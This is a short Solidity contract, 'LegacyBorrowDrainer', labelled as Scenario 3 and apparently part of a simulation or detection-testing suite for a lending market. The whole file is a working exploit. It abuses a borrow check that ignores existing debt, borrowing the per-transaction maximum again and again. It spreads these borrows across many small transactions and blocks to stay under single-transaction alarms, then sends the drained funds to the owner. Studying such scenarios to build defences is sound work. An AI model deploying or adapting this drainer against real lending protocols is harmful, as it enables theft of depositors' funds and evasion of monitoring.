// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {LegacyMarket} from "../venue/LegacyMarket.sol";
import {AttestedCaller} from "../guardian/AttestedEntry.sol";

/// @title LegacyBorrowDrainer
/// @notice Scenario 3: exploits LegacyMarket's borrow check, which ignores existing debt. After posting a little
/// WETH once (`setup`), every `step` borrows again up to the per-transaction cap, in many small transactions
/// spread over many blocks, each below any single-transaction alarm.
contract LegacyBorrowDrainer is AttestedCaller {
    LegacyMarket public immutable market;
    IERC20 public immutable usd;
    IERC20 public immutable weth;
    address public immutable owner;

    error NotOwner();

    modifier onlyOwner() {
        if (msg.sender != owner) revert NotOwner();
        _;
    }

    constructor(LegacyMarket market_) {
        market = market_;
        usd = market_.asset();
        weth = market_.collateralToken();
        owner = msg.sender;
    }

    function setup(uint256 collateral) external onlyOwner {
        weth.transferFrom(owner, address(this), collateral);
        weth.approve(address(market), collateral);
        market.depositCollateral(collateral);
    }

    /// @notice Borrows `count` times the largest amount one borrow allows, and sends it to the owner.
    function step(uint256 count) external onlyOwner returns (uint256 taken) {
        for (uint256 i = 0; i < count; i++) {
            uint256 amount = market.borrowingPower(address(this));
            uint256 cap = market.MAX_BORROW_PER_TX();
            uint256 cash = market.cash();
            if (amount > cap) amount = cap;
            if (amount > cash) amount = cash;
            if (amount == 0) break;
            market.borrow(amount);
            taken += amount;
        }
        usd.transfer(owner, taken);
    }
}
